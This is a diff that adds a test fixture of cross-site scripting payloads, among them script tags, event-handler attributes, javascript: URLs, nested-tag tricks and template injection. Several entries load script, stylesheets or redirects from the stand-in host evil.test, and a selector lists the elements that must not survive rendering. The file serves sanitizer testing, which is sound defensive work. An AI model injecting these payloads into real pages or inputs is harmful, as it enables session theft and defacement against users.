@@ -1,0 +1,48 @@
+/** For tests: what people write to see whether it runs. */
+export const MARKUP = [
+  "<script>window.pwned = 1</script>",
+  "<script src=https://evil.test/x.js></script>",
+  "<ScRiPt>alert(1)</sCrIpT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "</script><script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=https://evil.test/x.png>",
+  "<img/src/onerror=alert(1)>",
+  '"><svg/onload=alert(1)>',
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+  "<math><mtext></mtext><img src=x onerror=alert(1)></math>",
+  "<iframe src='javascript:alert(1)'></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data='javascript:alert(1)'></object>",
+  "<embed src='javascript:alert(1)'>",
+  "<body onload=alert(1)>",
+  "<a href='javascript:alert(1)'>click</a>",
+  "<a href=' java\tscript:alert(1)'>click</a>",
+  "<form action='https://evil.test'><input autofocus onfocus=alert(1)></form>",
+  "<button formaction='javascript:alert(1)'>x</button>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<video><source onerror=alert(1)></video>",
+  "<audio src=x onerror=alert(1)>",
+  "<style>*{display:none}</style>",
+  "<style>@import 'https://evil.test/x.css';</style>",
+  "<link rel=stylesheet href=https://evil.test/x.css>",
+  "<base href=https://evil.test/>",
+  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
+  "<template><script>alert(1)</script></template>",
+  "<div style='background:url(https://evil.test)'>x</div>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "{{constructor.constructor('alert(1)')()}}",
+  "${alert(1)}",
+  // oxlint-disable-next-line no-script-url -- never followed
+  "javascript:alert(1)",
+  "' onmouseover='alert(1)",
+  "</li></ul><b>bold</b>",
+  '=HYPERLINK("https://evil.test")',
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "[click](javascript:alert(1)) ![x](https://evil.test/x.png)",
+];
+
+/** What none of it may become; pictures of our own have a role. */
+export const RUNNING_MARKUP =
+  "script, img, iframe, svg:not([role]), object, embed, style, link, base, meta, video, audio, form, template, [onerror], [onload]";
